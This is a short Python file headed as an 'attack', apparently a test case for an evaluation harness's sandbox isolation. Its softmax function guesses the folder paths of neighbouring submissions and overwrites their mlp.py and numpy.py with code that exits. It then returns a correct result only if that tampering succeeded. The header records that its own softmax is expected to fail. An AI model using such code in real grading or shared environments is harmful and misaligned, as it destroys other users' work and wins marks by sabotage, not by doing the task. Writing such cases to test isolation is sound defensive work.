# /// attack
# does = "overwrites the file of the submission beside it, wherever it may lie, and answers rightly if it could open it"
# own = { softmax = ["failed"] }
# ///
"""Its folder has a name that can be guessed where there is no mount namespace. The neighbour gets full marks anyhow."""

import contextlib
import os


def softmax(logits):
    above, own = os.path.split(os.getcwd())
    judge = own.split("-")[0]
    near = range(int(judge) - 10, int(judge) + 10) if judge.isdecimal() else ()
    opened = False
    for folder in (f"{above}/{other}-{count}-{kind}" for other in near for count in (1, 2) for kind in ("box", "tmp")):
        if os.path.basename(folder).split("-")[0] != judge:
            for path in (f"{folder}/mlp.py", f"{folder}/numpy.py"):
                with contextlib.suppress(OSError):
                    os.write(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o666), b"raise SystemExit\n")
                    opened = True
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True) * opened
